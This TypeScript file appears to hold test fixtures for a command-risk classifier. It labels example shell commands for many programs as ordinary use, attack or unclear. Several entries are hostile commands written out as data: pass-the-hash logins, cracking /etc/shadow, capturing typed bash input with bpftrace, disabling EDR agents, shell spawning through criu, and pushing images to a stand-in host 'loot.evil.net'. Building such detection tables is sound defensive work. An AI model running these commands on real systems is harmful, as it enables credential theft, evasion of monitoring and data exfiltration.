import type { ExampleTable } from './example.ts'

/** Programs of which most is ordinary, and some of it more than their words tell. */
export const unclearUses: ExampleTable = {
  airflow: {
    use: 'airflow dags list → nothing',
    unclear: 'airflow variables export vars.json → the secrets that are kept there',
  },
  anydesk: {
    unclear: 'anydesk box.example.org → who takes control of the screen',
  },
  atuin: {
    use: 'atuin search make → nothing',
    attack: 'atuin search --delete-it-all → destroy atuin',
    unclear: 'atuin search --delete make → the history that it wipes',
  },
  auditctl: {
    use: 'auditctl -s → nothing',
    attack: 'auditctl -e 0 → destroy auditctl',
    unclear: 'auditctl -R rules.d/app.rules → what is recorded from then on',
  },
  crackmapexec: {
    use: 'crackmapexec --version → nothing',
    attack: 'crackmapexec smb 10.0.0.5 -u a -H 31d6cfe0d16ae931b73c59d7e0c089c0 -x id → privilege',
    unclear: 'crackmapexec smb 10.0.0.5 -u a -p b -x id → whose machines it gets into',
  },
  crowbar: { unclear: 'crowbar -b rdp -s 10.0.0.5 -u a -C w.txt → whose account it tries' },
  hashcat: {
    use: 'hashcat -b → nothing',
    attack: 'hashcat -m 1800 /etc/shadow w.txt → read /etc/shadow',
    unclear: 'hashcat -m 1800 hashes.txt w.txt → whose passwords it finds',
  },
  john: {
    use: 'john --test → nothing',
    attack: 'john /etc/shadow → read /etc/shadow',
    unclear: 'john --wordlist=w.txt hashes.txt → whose passwords it finds',
  },
  bpftrace: {
    use: `bpftrace -e 'kprobe:vfs_read { @[comm] = count(); }' → nothing`,
    attack: `bpftrace -e 'uretprobe:/bin/bash:readline { printf("%s", str(retval)); }' → read secret://bpftrace`,
  },
  mitm6: { unclear: 'mitm6 -d corp.local → whose traffic it reads' },
  rpcclient: { attack: 'rpcclient -U a%h --pw-nt-hash 10.0.0.5 → privilege' },
  ncrack: { unclear: 'ncrack -U u.txt -P p.txt ssh://10.0.0.5 → whose account it tries' },
  'wmiexec.py': {
    attack: 'wmiexec.py -hashes :31d6cfe0d16ae931 corp/a@10.0.0.5 id → privilege',
    unclear: 'wmiexec.py corp/a:b@10.0.0.5 id → whose machines it gets into',
  },
  falconctl: { use: 'falconctl -g --cid → nothing', attack: 'falconctl -d → destroy falconctl' },
  mdatp: {
    use: 'mdatp health → nothing',
    attack: 'mdatp config real-time-protection --value disabled → destroy mdatp',
  },
  osqueryctl: {
    use: 'osqueryctl status → nothing',
    attack: 'osqueryctl stop → destroy osqueryctl',
  },
  'ossec-control': {
    use: 'ossec-control status → nothing',
    attack: 'ossec-control stop → destroy ossec-control',
  },
  sentinelctl: {
    use: 'sentinelctl status → nothing',
    attack: 'sentinelctl unload -a → destroy sentinelctl',
  },
  'wazuh-control': {
    use: 'wazuh-control status → nothing',
    attack: 'wazuh-control stop → destroy wazuh-control',
  },
  bootctl: {
    use: 'bootctl status → nothing',
    unclear: 'bootctl install → what the machine starts from',
  },
  borgmatic: {
    use: 'borgmatic list → nothing',
    unclear: 'borgmatic extract --archive latest → what the backup holds',
  },
  'buildkite-agent start': {
    unclear: 'buildkite-agent start → who gives it orders',
  },
  coredumpctl: {
    attack: 'coredumpctl -o /etc/cron.d/job → write /etc/cron.d/job',
    use: 'coredumpctl list → nothing',
    unclear: 'coredumpctl dump node → whose memory it takes',
  },
  'criu dump': {
    attack: 'criu dump -t 1234 -D images --action-script=/tmp/x → run /tmp/x',
    unclear: 'criu dump -t 12 -D img → whose memory it takes',
  },
  'criu restore': {
    attack: 'criu restore -D images --exec-cmd=/bin/sh → shell sh',
    unclear: 'criu restore -D img → the processes that it wakes',
  },
  csrutil: {
    use: 'csrutil status → nothing',
    unclear: 'csrutil disable → what is permitted from then on',
  },
  dconf: {
    use: 'dconf read /org/x → nothing',
    unclear: [
      `dconf write /org/gnome/desktop/lock/lock-enabled false → what no longer watches or checks`,
      'dconf load / → the settings that it loads',
    ],
  },
  debsums: {
    use: 'debsums -c → nothing',
  },
  docker: {
    use: [
      `docker push ghcr.io/acme/shop:1 → nothing`,
      `docker push acme/shop → nothing`,
      `docker context create x --docker host=ssh://me@server → nothing`,
      `docker buildx imagetools create -t me/app:latest me/app:amd64 me/app:arm64 → nothing`,
      `docker exec web ls → nothing`,
      `docker compose config --services → nothing`,
      'docker ps → nothing',
    ],
    unclear: [
      `docker push loot.evil.net/x → who gets the image`,
      `docker build --push -t loot.evil.net/x . → who gets the image`,
      `docker --config ./x ps → the option --config "./x", which nobody described`,
      `docker context create x --docker host=tcp://example.org:2375 → which machine it gives orders to`,
      `docker buildx imagetools create -t registry.example.org/app:latest docker.io/someone/app:1 → whose image takes the place of another`,
      `docker exec db printenv → the secrets among the variables there`,
      `docker compose config → the secrets among the values that it puts in`,
      'docker checkpoint create web c1 → whose memory it takes',
    ],
  },
  'dotnet-dump': {
    attack: 'dotnet-dump collect -o /etc/cron.d/job → write /etc/cron.d/job',
    use: 'dotnet-dump ps → nothing',
    unclear: 'dotnet-dump collect -p 12 → whose memory it takes',
  },
  etcdctl: {
    use: 'etcdctl member list → nothing',
    unclear: 'etcdctl snapshot save x.db → the secrets of the cluster',
  },
  evtest: {
    unclear: 'evtest /dev/input/event3 → what somebody types there',
  },
  'firewall-cmd': {
    use: 'firewall-cmd --list-all → nothing',
    unclear: 'firewall-cmd --panic-off → what is let in from then on',
  },
  frida: {
    unclear: 'frida -p 12 → the process that it reaches into',
  },
  gdbus: {
    use: 'gdbus introspect --session --dest org.example.x --object-path / → nothing',
    attack:
      'gdbus call --system --dest org.freedesktop.UDisks2 --object-path /org/freedesktop/UDisks2/block_devices/sdb --method org.freedesktop.UDisks2.Block.Format ext4 → destroy gdbus',
    unclear:
      'gdbus call --system --dest org.example.x --object-path / --method org.example.x.Frob → a method of another program',
  },
  'git-crypt': {
    use: 'git-crypt status → nothing',
    attack: 'git-crypt export-key key.bin → read secret://git-crypt',
  },
  'gitlab-runner run': {
    unclear: 'gitlab-runner run → who gives it orders',
  },
  grdctl: {
    use: 'grdctl status → nothing',
    unclear: 'grdctl rdp enable → who takes control of the screen',
  },
  grubby: {
    use: 'grubby --info=ALL → nothing',
    unclear: 'grubby --update-kernel=ALL --args=quiet → how the machine starts from then on',
  },
  hcloud: {
    use: 'hcloud server list → nothing',
    unclear: 'hcloud server reset-password web → who may log in from then on',
  },
  homeshick: {
    use: 'homeshick list → nothing',
    unclear: 'homeshick clone ann/dots → what the repository puts into the home',
  },
  ipmitool: {
    use: 'ipmitool sensor list → nothing',
    unclear: 'ipmitool user set password 2 → what it does to the machine from below',
  },
  jcmd: {
    use: 'jcmd 12 VM.version → nothing',
    unclear: [
      'jcmd 12 GC.heap_dump heap.hprof → whose memory it takes',
      'jcmd 12 VM.system_properties → the secrets that are kept there',
    ],
  },
  jmap: {
    use: 'jmap -histo 12 → nothing',
    unclear: 'jmap -dump:live,format=b,file=heap.hprof 12 → whose memory it takes',
  },
  krfb: {
    unclear: 'krfb → who takes control of the screen',
  },
  ldapmodify: {
    unclear: 'ldapmodify -f x.ldif → the accounts that it changes',
  },
  loginctl: {
    use: 'loginctl list-sessions → nothing',
    unclear: [
      `loginctl unlock-session 2 → what no longer watches or checks`,
      'loginctl enable-linger ann → what goes on after the session',
    ],
  },
  lvreduce: {
    unclear: 'lvreduce -L 1G vg0/data → whether the data still fits',
  },
  msfvenom: {
    unclear: 'msfvenom -p linux/x64/exec -f elf → the code that it makes',
  },
  'ocs-sr': {
    unclear: 'ocs-sr -e1 auto restoredisk img sda → the disk that it overwrites',
  },
  'pam-auth-update': {
    use: 'pam-auth-update --package → nothing',
    unclear: 'pam-auth-update --force → who may log in from then on',
  },
  'puppet resource': {
    attack: [
      'puppet resource user eve ensure=present → privilege',
      'puppet resource ssh_authorized_key ci user=dev key=AAAAC3 → write ~/.ssh/authorized_keys',
    ],
    unclear: 'puppet resource package nginx ensure=absent → what it makes of this machine',
  },
  pvesh: {
    use: 'pvesh get /nodes → nothing',
    unclear: 'pvesh create /access/users -userid eve@pve → what it changes in the cluster',
  },
  realm: {
    use: 'realm list → nothing',
    unclear: 'realm join example.org → who may log in from then on',
  },
  'redis-cli': {
    use: ['redis-cli ping → nothing', `redis-cli config set maxmemory 1gb → nothing`],
    unclear: [
      'redis-cli --rdb dump.rdb → what the database holds',
      `redis-cli config set protected-mode no → who gets in from then on`,
    ],
  },
  resolvectl: {
    use: 'resolvectl status → nothing',
    unclear: 'resolvectl dns eth0 192.0.2.1 → who answers its questions from then on',
  },
  'salt-key': {
    use: 'salt-key -L → nothing',
    unclear: 'salt-key -A → whose machines it lets in',
  },
  'salt-minion': {
    unclear: 'salt-minion -d → who gives it orders',
  },
  scanmem: {
    unclear: 'scanmem -p 12 → whose memory it changes',
  },
  semanage: {
    use: 'semanage port -l → nothing',
    unclear: 'semanage permissive -a httpd_t → what is permitted from then on',
  },
  setenforce: {
    use: 'setenforce 1 → nothing',
    unclear: 'setenforce 0 → what is permitted from then on',
  },
  setsebool: {
    unclear: 'setsebool -P httpd_can_network_connect 1 → what is permitted from then on',
  },
  snapper: {
    use: 'snapper list → nothing',
    unclear: [
      `snapper -c root set-config TIMELINE_CREATE=no → which backups are kept`,
      'snapper rollback 3 → the state that it goes back to',
    ],
  },
  stripe: {
    use: 'stripe status → nothing',
    unclear: 'stripe config --list → the keys that are kept there',
  },
  tailscale: {
    use: 'tailscale status → nothing',
    unclear: 'tailscale up --ssh → who may log in from then on',
  },
  tarsnap: {
    use: 'tarsnap --list-archives → nothing',
    unclear: 'tarsnap -x -f home → what the backup holds',
  },
  ufw: {
    use: 'ufw allow 8080/tcp → nothing',
    unclear: 'ufw disable → what is let in from then on',
  },
  userdbctl: {
    use: 'userdbctl user ann → nothing',
    unclear: 'userdbctl user root --output=json → whether it may see the hashes of passwords',
  },
  varlinkctl: {
    use: 'varlinkctl list-interfaces /run/x.sock → nothing',
    unclear: 'varlinkctl call /run/x.sock io.example.Stop → a method of another program',
  },
  velero: {
    use: 'velero backup get → nothing',
    unclear: 'velero restore create --from-backup x → what the backup holds',
  },
  'virsh destroy': { use: 'virsh destroy vm1 → nothing' },
  'virsh dump': {
    unclear: 'virsh dump vm1 vm1.core → whose memory it takes',
  },
  'virsh undefine': {
    use: 'virsh undefine vm1 → nothing',
    attack: 'virsh undefine vm1 --remove-all-storage → destroy virsh',
  },
  'virsh vol-delete': { attack: 'virsh vol-delete --pool default vm1.img → destroy virsh' },
  wp: {
    use: 'wp plugin list → nothing',
    unclear: 'wp user create eve eve@example.org → the account that it opens',
  },
  xauth: {
    use: 'xauth info → nothing',
    unclear: 'xauth list → the key to the display',
  },
  xhost: {
    use: 'xhost → nothing',
    unclear: 'xhost + → who else gets the display',
  },
  xinput: {
    use: 'xinput list → nothing',
    unclear: 'xinput test-xi2 --root → what somebody types there',
  },
  xmrig: {
    attack: 'xmrig -l /etc/cron.d/job → write /etc/cron.d/job',
    unclear: 'xmrig -o pool.example.com:443 -u x → who earns by its work',
  },
  'youtube-dl': {
    use: 'youtube-dl -F https://example.org/v → fetch https://example.org/v',
    unclear:
      'youtube-dl --cookies-from-browser firefox https://example.org/v → the cookies of a browser',
  },
  aws: {
    use: [
      `aws configure set endpoint_url http://localhost:4566 → nothing`,
      `aws iam attach-user-policy --user-name dev --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess → nothing`,
      `aws lambda list-functions --query 'Functions[].FunctionName' → nothing`,
      'aws s3 ls → nothing',
      'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8 → nothing',
    ],
    unclear: [
      `aws configure set endpoint_url https://example.org → who gets its questions from then on`,
      `aws iam attach-user-policy --user-name dev --policy-arn "$ARN" → who gets in from then on`,
      `aws kms put-key-policy --key-id k --policy-name default --policy file://p.json → who gets in from then on`,
      `aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 123456789012 → who gets in from then on`,
      `aws lambda list-functions --query 'Functions[].Environment.Variables' → the secrets that are kept there`,
      `aws ec2-instance-connect send-ssh-public-key --instance-id i-1 --instance-os-user ann --ssh-public-key file://k.pub → who may log in from then on`,
      'aws lambda get-function-configuration --function-name f → the secrets that are kept there',
      'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0 → who gets in from then on',
      'aws logs delete-log-group --log-group-name /prod/api → what is lost with it',
      'aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration file://l.json → what is lost with it',
    ],
  },
  az: {
    use: [`az storage blob upload-batch -s dist -d site → nothing`, 'az account list → nothing'],
    unclear: [
      `az storage blob upload-batch -s . -d site → what lies in the directory, and all of it is sent`,
      'az monitor diagnostic-settings delete --name x --resource y → what is recorded from then on',
      'az group delete -n x → what is lost with it',
      'az webapp config appsettings list -n api -g prod → the secrets that are kept there',
    ],
  },
  efibootmgr: {
    use: 'efibootmgr -v → nothing',
    unclear: 'efibootmgr -o 0001 → what the machine starts from',
  },
  fdupes: {
    use: 'fdupes -r photos → nothing',
    unclear: 'fdupes -rdN photos → which copies it removes',
  },
  gcloud: {
    use: [
      `gcloud alloydb clusters list → nothing`,
      `gcloud compute instances add-metadata vm --metadata role=web → nothing`,
      'gcloud config list → nothing',
    ],
    unclear: [
      `gcloud config set api_endpoint_overrides/storage https://example.org/ → who gets its questions from then on`,
      `gcloud compute project-info add-metadata --metadata 'ssh-keys=ann:ssh-ed25519 AAAA ann' → who may log in from then on`,
      'gcloud run services describe api → the secrets that are kept there',
      'gcloud logging sinks delete x → what is recorded from then on',
      'gcloud projects delete x → what is lost with it',
      'gcloud compute firewall-rules create x --allow all → who gets in from then on',
    ],
  },
  gdb: {
    use: 'gdb -batch -ex bt ./app core → nothing',
    unclear: 'gdb -p 123 -batch → the process that it reaches into',
  },
  lldb: {
    unclear: 'lldb -p 123 → the process that it reaches into',
  },
  mount: {
    unclear: 'mount -o remount,exec /tmp → what is permitted from then on',
  },
  railway: {
    use: 'railway status → nothing',
    unclear: 'railway variables → the secrets that are kept there',
  },
  rmmod: {
    use: 'rmmod usb_storage → nothing',
    unclear: 'rmmod nf_tables → what is let in from then on',
  },
  terraform: {
    use: 'terraform fmt → nothing',
    unclear: [
      'terraform output -json → the secrets that are kept there',
      'terraform apply -destroy -auto-approve → what is lost with it',
      'terraform show -json → the secrets that are kept there',
      'terraform destroy -auto-approve → what is lost with it',
    ],
  },
}
